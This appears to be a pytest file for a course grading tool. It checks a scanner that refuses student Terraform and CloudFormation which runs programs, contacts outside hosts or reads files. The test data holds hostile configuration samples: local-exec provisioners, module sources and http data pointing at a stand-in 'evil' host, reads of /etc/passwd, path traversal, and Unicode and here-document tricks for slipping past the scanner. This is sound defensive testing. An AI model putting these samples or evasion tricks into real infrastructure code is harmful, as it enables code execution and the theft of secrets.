"""Configuration that runs code or reaches out is refused by name and line; the lab's own files are not."""

import time
from pathlib import Path

import pytest

import labkit
from labkit.course import manifest
from labkit.course.rendering import Renderer
from labkit.course.variant import make_variant
from labkit.grading.intake.refusal import find, harmful, shows_more, versions

pytestmark = pytest.mark.slow

ROOT = Path(labkit.__file__).resolve().parent.parent


@pytest.mark.parametrize("solution", [False, True])
def test_the_labs_own_files_pass(solution: bool) -> None:
    lab = manifest.load(ROOT)
    values = make_variant(lab.salt, "ada@uni.edu").values()
    assert find(Renderer(ROOT, lab.files).render(values, solution=solution)) == []


_DYNAMIC = (
    'resource "aws_security_group" "x" {\n  dynamic "%s" {\n    for_each = [{ p = "/x", module = "/etc" }]\n    iterator = %s\n'
    '    content {\n      cidr_blocks = [file(%s)]\n    }\n  }\n}\nlocals {\n  p = "build/x"\n}'
)
_UNNAMED = _DYNAMIC.replace("    iterator = %s\n", "")
_NESTED = (
    'resource "aws_security_group" "x" {\n  dynamic "a" {\n    for_each = []\n    iterator = %s\n    content {\n'
    '      dynamic "b" {\n        for_each = [file(%s)]\n      }\n    }\n  }\n}\nlocals {\n  p = "build/x"\n}'
)
TERRAFORM = {
    "external": 'data "external" "x" {\n  program = ["sh"]\n}',
    "http": 'data "http" "x" {\n  url = "http://evil"\n}',
    "remote state": 'data "terraform_remote_state" "x" {}',
    "local-exec": 'resource "aws_vpc" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}',
    "remote-exec": 'resource "aws_vpc" "x" {\n  provisioner "remote-exec" {}\n}',
    "module": 'module "x" {\n  source = "git::https://evil"\n}',
    "local module": 'module "x" {\n  source = "./there"\n}',
    "provider": 'provider "null" {}',
    "required": 'terraform {\n  required_providers {\n    x = {\n      source = "evil/x"\n    }\n  }\n}',
    "backend": 'terraform {\n  backend "http" {\n  }\n}',
    "cloud": "terraform {\n  cloud {\n  }\n}",
    "file": 'locals {\n  x = file("/etc/passwd")\n}',
    "file above": 'locals {\n  x = file("../../secret")\n}',
    "file computed": "locals {\n  x = file(var.path)\n}",
    "templatefile": 'locals {\n  x = templatefile("/etc/passwd", {})\n}',
    "fileset": 'locals {\n  x = fileset("/", "**")\n}',
    "after a comment": '# nothing\n/* data */ \ndata "external" "x" {}',
    "other resource": 'resource "random_id" "x" {\n  byte_length = 4\n}',
    "other data": 'data "vault_secret" "x" {}',
    "bare label": 'resource "aws_s3_bucket" "x" {\n  provisioner local-exec {\n    command = "id"\n  }\n}',
    "bare module": "module x {\n  source = 1\n}",
    "profile": 'provider "aws" {\n  profile = "x"\n  shared_config_files = ["./cfg"]\n}',
    "endpoints": 'provider "aws" {\n  endpoints {\n    s3 = "http://evil"\n  }\n}',
    "assumed role": 'provider "aws" {\n  assume_role {\n    role_arn = "x"\n  }\n}',
    "source by local": 'locals {\n  p = "../../x"\n}\nresource "aws_s3_object" "x" {\n  source = local.p\n}',
    "source by variable": 'resource "aws_s3_object" "x" {\n  source = var.p\n}',
    "filename": 'resource "aws_lambda_function" "x" {\n  filename = "../../task.json"\n}',
    "one line": 'terraform {\n  required_providers {\n    aws = { source = "evil.example/evil/aws" }\n  }\n}',
    "quoted key": 'terraform {\n  required_providers {\n    aws = { "source" = "evil/aws" }\n  }\n}',
    "byte order mark": '\ufeffmodule "x" { source = "git::https://evil" }',
    "behind here-documents": 'locals {\n  a = <<A\n/*\nA\n}\nmodule "x" {\n  source = "git::evil"\n}\nlocals {\n  b = <<B\n*/\nB\n}',
    "behind a string": 'locals {\n  a = "${"/*"}"\n}\nmodule "x" {\n}\nlocals {\n  b = "${"*/"}"\n}',
    "behind a backslash": 'locals {\n  a = <<A\nx\\\nA\n}\nmodule "x" {\n}\n',
    "read in a here-document": 'locals {\n  a = <<A\n\\${file("/etc/passwd")}\nA\n}',
    "read in a string": 'locals {\n  a = "x ${upper(file("/etc/passwd"))}"\n}',
    "read in a directive": 'locals {\n  a = "%{ if file("/etc/passwd") == "" }x%{ endif }"\n}',
    "own template": 'locals {\n  a = templatefile("own.tftpl", {})\n}',
    "dynamic": 'resource "aws_vpc" "x" {\n  lifecycle {\n  }\n  connection {\n    host = "x"\n  }\n}',
    "action": 'action "x" "y" {\n}',
    "nested strings": "locals {\n  a = " + '"${' * 30 + "1" + '}"' * 30 + "\n}",
    "nested blocks": "a {\n" * 30 + "}\n" * 30,
    "huge": "# " + "x" * (1 << 20),
    "odd mark": 'locals {\n  a = <<E\u0301\n/*\nE\u0301\n}\nmodule "x" {\n}\n# */',
    "odd end": 'locals {\n  a = <<EOT\nEOT\x1c\n/*\nEOT\n}\nmodule "x" {\n}\n# */',
    "odd name": 'module e\u0301 {\n  source = "git::evil"\n}',
    "odd attribute": 'locals {\n  e\u0301 = file("/etc/passwd")\n}',
    "after a brace": "locals {\n}\n}\nmodule x {\n}",
    "no statement": 'locals {\n}\n+\nmodule "x" {\n}',
    "chosen source": 'terraform {\n  required_providers {\n    aws = {\n      source = ["version", "evil/aws"][1]\n    }\n  }\n}',
    "source of a part": 'terraform {\n  required_providers {\n    aws = {\n      source = { version = "evil/aws" }.version\n    }\n  }\n}',
    "newline before the bracket": 'output "a" {\n  value = (file\n  ("/etc/passwd"))\n}',
    "the same in a string": 'output "a" {\n  value = "${file\n("/etc/passwd")}"\n}',
    "by its namespace": 'output "a" {\n  value = core::file("/etc/passwd")\n}',
    "unescaped build": 'locals {\n  a = templatefile("${path.module}/build/flask_server_startup.sh", {})\n}',
    "loop variable": 'locals {\n  p = "main.tf"\n  a = [for local in [{ p = "/x" }] : file(local.p)]\n}',
    "escaped type": 'resource "aws_s3_\\u006fbject" "x" {\n  source = "/etc/passwd"\n}',
    "fileexists": 'locals {\n  a = fileexists("/etc/passwd")\n}',
    "fileset inside": 'locals {\n  a = fileset("x", "../../*")\n}',
    "address ranges": 'data "aws_ip_ranges" "x" {\n  url = "http://evil"\n}',
    "other provider's": 'resource "aws_vpc" "x" {\n  provider = null\n}',
    "folder above": 'locals {\n  a = file("x/../../y")\n}',
    "iterator called local": _DYNAMIC % ("ingress", "local", "local.p"),
    "iterator in brackets": _DYNAMIC % ("ingress", "(local)", "local.p"),
    "iterator of an outer block": _NESTED % ("local", "local.p"),
    "iterator called path": _DYNAMIC % ("ingress", "path", '"${path.module}/passwd"'),
    "block called local": _UNNAMED % ("local", "local.p"),
    "block called path": _UNNAMED % ("path", '"${path.root}/passwd"'),
    "loop variable called path": 'locals {\n  a = [for path in [{ module = "/etc" }] : file("${path.module}/passwd")]\n}',
    "second loop variable": 'locals {\n  a = { for k, path in [{ root = "/" }] : k => file("${path.root}/passwd") }\n}',
    "loop in a template": 'locals {\n  a = "%{ for path in [{ module = "/etc" }] }${file("${path.module}/passwd")}%{ endfor }"\n}',
    "loop outside the call": 'locals {\n  p = "x"\n  a = [for local in [{ p = "/x" }] : upper("a ${file(local.p)}")]\n}',
    "provider's function": 'locals {\n  a = provider::local::direxists("/etc")\n}',
    "template of a text": "locals {\n  a = templatestring(local.t, {})\n}",
    "list of files": 'locals {\n  a = fileset("${path.module}", "*")\n}',
    "function of tomorrow": 'locals {\n  a = readanything("/etc/passwd")\n}',
    "experiments": "terraform {\n  experiments = [x]\n}",
    "number glued to a call": 'locals {\n  a = [5file("/etc/passwd")]\n}',
    "carriage return alone": 'locals {\n  a = 1 # \r b = file("/etc/passwd")\n}',
    "text over two lines": 'locals {\n  a = "x\ny"\n}',
    "text without end": 'locals {\n  a = "x',
    "here-document without end": "locals {\n  a = <<EOT\nx",
    "comment without end": "locals {\n}\n/* x",
    "no UTF-8": 'locals {\n  a = "x\ufffdy"\n}',
    "type by another letter": 'data "aws_ip_ranges\u200b" "x" {\n}',
    "brackets that do not match": 'locals {\n  a = {[}\n}\nmodule "x" {\n}\nlocals {\n  b = []\n}',
    "bracket that is not closed": 'locals {\n  a = (\n}\nmodule "x" {\n}',
    "bracket that closes nothing": "locals {\n  a = 1]\n}",
    "import": 'import {\n  id = "x"\n  to = aws_vpc.x\n}',
    "check": 'check "x" {\n  data "http" "y" {\n    url = "http://evil"\n  }\n}',
    "ephemeral": 'ephemeral "aws_secretsmanager_secret_version" "x" {\n}',
    "test": 'run "x" {\n}',
    "program at the end": 'removed {\n  from = aws_vpc.x\n  provisioner "local-exec" {\n    command = "id"\n  }\n}',
}


def _hides(before: str, after: str, first: str = "<<") -> str:
    """A module in what is a here-document to whoever takes the odd line for one of its own."""
    return f'locals {{\n  a = {first}EOT\n{before}EOT{after}\n}}\nmodule "x" {{\n}}\nlocals {{\n  b = <<EOT\nEOT\n}}'


#: every blank of Unicode, and what is as good as invisible
_BLANKS = "\x0b\x0c\x1c\x1f\x85\xa0\u1680\u180e\u2000\u2009\u200a\u200b\u2028\u2029\u202f\u205f\u2060\u3000\ufeff\ufffd\u0301"


@pytest.mark.parametrize("blank", _BLANKS, ids=[f"{ord(each):04x}" for each in _BLANKS])
@pytest.mark.parametrize("first", ["<<", "<<-"])
def test_no_blank_beside_the_mark_of_a_here_document_hides_what_follows(blank: str, first: str) -> None:
    for before, after in (
        ("", blank),
        (blank, ""),
        (" " + blank, ""),
        ("", " " + blank),
        (blank, blank + "\t"),
    ):
        assert find({"main.tf": _hides(before, after, first)}), (before, after)


def test_names_bound_elsewhere_do_not_matter() -> None:
    elsewhere = 'locals {\n  a = [for path in ["x"] : path]\n  b = file("${path.module}/build/lambda.zip")\n}'
    assert find({"main.tf": elsewhere}) == []


def test_a_slip_is_no_harm() -> None:
    slip = {"main.tf": 'locals {\n  a = lenght("x")\n}'}
    (found,) = find(slip)
    assert "lenght()" in str(found)
    assert harmful(slip) == []


_REFERENCE = {
    "main.tf": 'resource "aws_lambda_function" "f" {\n  filename = "${path.module}/build/lambda.zip"\n'
    '  source_code_hash = filebase64sha256("${path.module}/build/lambda.zip")\n}\n'
    'resource "aws_instance" "i" {\n  user_data = templatefile("build/flask_server_startup.sh.tftpl", {})\n}\n'
}
_FILES_SHOWN = {
    "main.tf": '\noutput "x" {\n  value = file("main.tf")\n}',
    "in a template": '\noutput "x" {\n  value = "${substr(file("main.tf"), 0, 9)}"\n}',
    "by a local value": '\nlocals {\n  p = "main.tf"\n}\noutput "x" {\n  value = filebase64(local.p)\n}',
    "a second time": '\noutput "x" {\n  value = templatefile("./build/flask_server_startup.sh.tftpl", {})\n}',
    "in a bucket": '\nresource "aws_s3_object" "x" {\n  source = "main.tf"\n}',
    "in a condition": '\nresource "aws_vpc" "x" {\n  lifecycle {\n    precondition {\n      error_message = "${file("flask_app.py")}"\n    }\n  }\n}',
}  # fmt: skip


@pytest.mark.parametrize("text", _FILES_SHOWN.values(), ids=_FILES_SHOWN)
def test_a_mixture_shows_no_more_of_the_labs_files_than_the_reference(text: str) -> None:
    mixture = {"main.tf": _REFERENCE["main.tf"] + text}
    assert find(mixture) == []
    (found,) = shows_more(mixture, _REFERENCE)
    assert "may not copy files of the lab" in str(found)


def test_a_mixture_may_read_as_the_reference_does() -> None:
    other = _REFERENCE["main.tf"].replace('"${path.module}/build/lambda.zip"', "local.zip")
    hashes = '\nlocals {\n  zip = "./build/lambda.zip"\n  a = filesha256(local.zip)\n}'
    assert shows_more({"main.tf": other + hashes}, _REFERENCE) == []


def test_the_versions_asked_for() -> None:
    def asked(source: str) -> str:
        return f"terraform {{\n  required_providers {{\n    aws = {source}\n  }}\n}}"

    files = {
        "a.tf": asked('{ source = "hashicorp/aws", version = "~> 5.0" }'),
        "b.tf": asked('">= 5.2, < 6"'),
    }
    assert versions(files) == (">= 5.2, < 6", "~> 5.0")
    assert versions({"a.tf": asked('{ source = "hashicorp/aws", version = "1\\" }')}) == ()
    assert versions({"a.tf": "locals {\n}", "b.tf": "{"}) == ()


@pytest.mark.parametrize(
    "name", ["a.tf.json", "x.tftest.json", "tests/x.tftest.json", "a.TF.JSON", "x.tfvars.json", "a.tofu.json"]
)
def test_terraforms_json_is_refused(name: str) -> None:
    assert find({name: "{}"})


def test_a_local_path_counts_only_where_no_file_sets_another() -> None:
    zip_file = 'resource "aws_lambda_function" "f" {\n  filename = local.p\n}'
    honest = {"locals.tf": 'locals {\n  p = "build/lambda.zip"\n}', "main.tf": zip_file}
    assert find(honest) == []
    assert find({**honest, "override.tf": 'locals {\n  p = "/etc/passwd"\n}'})


@pytest.mark.parametrize("text", TERRAFORM.values(), ids=TERRAFORM)
def test_terraform_is_refused_by_name_and_line(text: str) -> None:
    found = find({"main.tf": "\n\n" + text})
    assert found
    assert found[0].file == "main.tf"
    assert found[0].line >= 3 or "larger" in str(found[0])
    assert "is refused" in str(found[0])


@pytest.mark.parametrize(
    "text",
    [
        '# data "external" "x" {}',
        '// provisioner "local-exec" {}',
        '/* module "x" { source = "y" } */',
        'description = "data \\"external\\" is not used"',
        "source_security_group_id = aws_security_group.x.id",
        'x = file("${path.module}/build/lambda.zip")',
        'x = filebase64sha256("build/lambda.zip")',
        'data "aws_ssm_parameter" "ami" {}',
        'resource "aws_vpc" "x" {\n  tags = { backend = "flask", cloud = "lab", source = "me" }\n}',
        'variable "x" {\n  description = "a file (any), data \\"external\\" too"\n}',
        'resource "aws_vpc" "x" {\n  provider = aws\n}',
        'locals {\n  zip = "${path.module}/build/lambda.zip"\n}\nresource "aws_lambda_function" "f" {\n  filename = local.zip\n}',
        'locals {\n  a = <<A\nmodule "x" {\n}\nA\n  b = "$${file(\\"/etc/passwd\\")}"\n}',
        'resource "aws_cloudwatch_event_rule" "x" {\n  event_pattern = jsonencode({ source = ["aws.s3"] })\n}',
        'terraform {\n  required_version = ">= 1.5"\n  required_providers {\n    aws = {\n      source  = "hashicorp/aws"\n      version = "5.100.0"\n    }\n  }\n}',
        'terraform {\n  required_providers {\n    aws = "~> 5.0"\n  }\n}',
        'locals {\n  policy = file("${path.module}/policies/s3.json")\n}',
        'resource "aws_vpc" "x" {\n  provider = aws.other\n}',
        'provider "aws" {\n  region = var.region\n  default_tags {\n    tags = {}\n  }\n}',
        'locals {\n  boot = templatefile("${path.module}/build/flask_server_startup.sh.tftpl", { port = 1 })\n}',
    ],
)
def test_terraform_that_is_harmless(text: str) -> None:
    assert find({"main.tf": text}) == []


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        "/* " * 60_000,
        'module "x"\n' * 40_000,
        "a = file(" * 40_000,
        '"${' * 60_000,
        "x = <<A\n" * 40_000,
        "{" * 200_000,
    ],
    ids=["comments", "modules", "calls", "templates", "here-documents", "braces"],
)
def test_looking_takes_time_with_the_size_and_finds_no_more_than_a_few(text: str) -> None:
    began = time.process_time()
    found = find({"main.tf": text})
    assert time.process_time() - began < 10, "a file of this size needs a second"
    assert len(found) <= 20


def test_what_is_shown_of_it_is_short_and_printable() -> None:
    (found,) = find({"main.tf": 'data "ex\x1b[31m\x07' + "x" * 5000 + '" "x" {}'})
    assert str(found).isprintable()
    assert len(str(found)) < 250


CLOUDFORMATION = {
    "transform": "Transform: AWS::Serverless-2016-10-31\n",
    "include": "A:\n  Fn::Transform:\n    Name: AWS::Include\n",
    "short transform": "A: !Transform {Name: AWS::Include}\n",
    "custom": "Resources:\n  A:\n    Type: Custom::Evil\n",
    "custom resource": "Resources:\n  A:\n    Type: AWS::CloudFormation::CustomResource\n",
    "service token": "Resources:\n  A:\n    Properties:\n      ServiceToken: arn\n",
    "nested": "Resources:\n  A:\n    Type: AWS::CloudFormation::Stack\n",
    "macro": "Resources:\n  A:\n    Type: AWS::CloudFormation::Macro\n",
    "json": '{"Resources": {"A": {"Type": "Custom::Evil"}}}',
    "aliases": "a: &a [x]\nb: [*a, *a]\n",
    "depth": "[" * 60 + "]" * 60,
    "many": "a: [" + "x, " * 21_000 + "x]",
    "size": "# " + "x" * (1 << 20) + "\na: b\n",
}


@pytest.mark.slow
@pytest.mark.parametrize("text", CLOUDFORMATION.values(), ids=CLOUDFORMATION)
def test_cloudformation_is_refused_by_name_and_line(text: str) -> None:
    found = find({"cloudformation-template.yaml": text})
    assert found
    assert found[0].line >= 1
    assert "is refused" in str(found[0])


def test_broken_yaml_is_left_to_the_engine() -> None:
    assert find({"cloudformation-template.yaml": "a: [b\n"}) == []


def test_other_files_are_not_looked_at() -> None:
    assert find({"answers.md": 'data "external" "x" {}', "flask_app.py": "Transform: x"}) == []
